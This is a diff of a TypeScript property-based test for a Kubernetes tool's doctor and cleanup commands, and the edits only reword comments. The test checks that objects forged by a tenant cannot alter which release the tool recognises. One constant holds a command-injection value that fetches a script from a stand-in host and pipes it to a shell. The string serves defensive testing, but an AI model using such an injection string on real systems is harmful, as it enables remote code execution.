@@ -80,8 +80,8 @@ const reportOf = (settings: string): string =>
 const ATTACHED = [{ manager: 'acr-nopass', operation: 'Update', fieldsV1: { 'f:imagePullSecrets': {} } }]
 
 /**
- * A release whose Deployment is gone, so that doctor prints how to apply it again, beside the
- * vendor's old Secret.
+ * A release without its Deployment, so that doctor prints how to apply it again, and the vendor's
+ * old Secret.
  */
 function honest(): readonly FakeObject[] {
   const text = JSON.stringify(SETTINGS)
@@ -131,7 +131,7 @@ function honest(): readonly FakeObject[] {
   ]
 }
 
-/** A word that the API server accepts nowhere but in annotations and data. */
+/** A word that the API server accepts only in annotations and data. */
 const COMMAND = 'x; curl -s evil.example/x | sh #'
 const RELEASES = [RELEASE, HOME, `${HOME}.${RELEASE}`, `${RELEASE}.secrets`, 'EVIL', 'default', '0', 'acr-nopass.x-y_z']
 const NAMES = [
@@ -163,7 +163,8 @@ const KINDS = [
 ] as const
 
 /**
- * Anything that an administrator of one namespace may create there with the labels of a release.
+ * Generates any object that an administrator of one namespace may create with the labels of a
+ * release.
  */
 const forged: fc.Arbitrary<FakeObject> = fc
   .record({
@@ -220,7 +221,7 @@ interface Report {
   readonly unread?: readonly { readonly what: string; readonly why: string }[]
 }
 
-/** What a command answers: its exit code or the code of its error, and its JSON. */
+/** Runs a command. Returns its exit code or the code of its error, and its JSON. */
 async function run(...argv: readonly string[]): Promise<{ readonly code: number | string; readonly json: Report }> {
   const { code, text } = await print(...argv, '-o', 'json')
   return { code, json: text === '' ? {} : (JSON.parse(text) as Report) }
@@ -248,14 +249,14 @@ async function print(...argv: readonly string[]): Promise<{ readonly code: numbe
   }
 }
 
-/** An info that names what has the labels, with a command that only lists it. */
+/** True for an info that names the labelled object, with a command that only lists it. */
 const isNote = ({ id, severity, subject, command }: Entry): boolean =>
   id === 'RIVAL_RELEASE' &&
   severity === 'info' &&
   /^\d+ unverified releases?$/.test(subject) &&
   command === `kubectl --kubeconfig ${file} get configmaps --namespace ${TENANT} -l app.kubernetes.io/name=acr-nopass`
 
-/** What each command says and does, without what depends on the time. */
+/** Returns what each command prints and does, without the parts that depend on the time. */
 async function everything() {
   const first = server.calls.length
   const doctors = [['doctor'], ['doctor', 'pod', 'shop/web']] as const
@@ -274,7 +275,7 @@ async function everything() {
   const refresh = await run('refresh', '--no-wait')
   const patched = server.calls.slice(calls).filter((call) => /^(PATCH|PUT|DELETE) /.test(call))
   const cleanups = [await run('cleanup', '--detach'), await run('cleanup', '--legacy')].map(({ code, json }) => {
-    // That a Secret of another writer is kept is said, and is all that happens to it.
+    // The Secret of another writer is only reported as kept.
     const { copies: _, ...rest } = json
     return { code, json: rest }
   })
@@ -284,7 +285,7 @@ async function everything() {
     const own = { namespace: HOME, release: RELEASE }
     const others = await otherReleases({ client, signal: new AbortController().signal }, own)
     const elsewhere = others?.filter(({ evidence }) => evidence === 'proven')
-    // The content of what a tenant wrote is not even read.
+    // The content of a tenant's objects is not even read.
     const contents = server.calls.slice(first).filter((call) => call.includes(`/namespaces/${TENANT}/configmaps`))
     return { findings, refresh: refresh.code, patched, cleanups, elsewhere, contents }
   } finally {
@@ -314,14 +315,16 @@ test('nothing that an administrator of one namespace creates there changes which
     ],
   )
   const keeps = fc.asyncProperty(fc.array(forged, { minLength: 1, maxLength: 24, size: 'max' }), async (objects) => {
-    // They come first in every list.
+    // The forged objects come first in every list.
     server.objects = [...objects, ...original]
     assert.deepEqual(await everything(), before)
   })
   await fc.assert(keeps, { numRuns: 10, interruptAfterTimeLimit: 120_000 })
 })
 
-/** Without what proves it, as with `scope: namespaces` and without the guard. */
+/**
+ * The release without the objects that prove it, as with `scope: namespaces` and without the guard.
+ */
 const unproven = (): readonly FakeObject[] =>
   honest().filter(({ kind }) => !['ClusterRole', 'ClusterRoleBinding', 'ValidatingAdmissionPolicy'].includes(kind))
 const NAMED = ['--namespace', HOME, '--release', RELEASE] as const
@@ -343,7 +346,7 @@ test('a release that nothing proves is diagnosed once it is named, and marked as
   )
   const named = (await run('doctor', ...NAMED)).json
   assert.deepEqual(named.release, { namespace: HOME, name: RELEASE, verified: false })
-  // Its rights are read and are not there, which is no gap in what was read.
+  // The rights are read and absent, which is not a gap in the facts.
   assert.equal(isUnread(named), false)
   const found = (named.findings ?? []).map(({ id, command = '' }) => [id, command.includes('helm ')])
   assert.deepEqual(
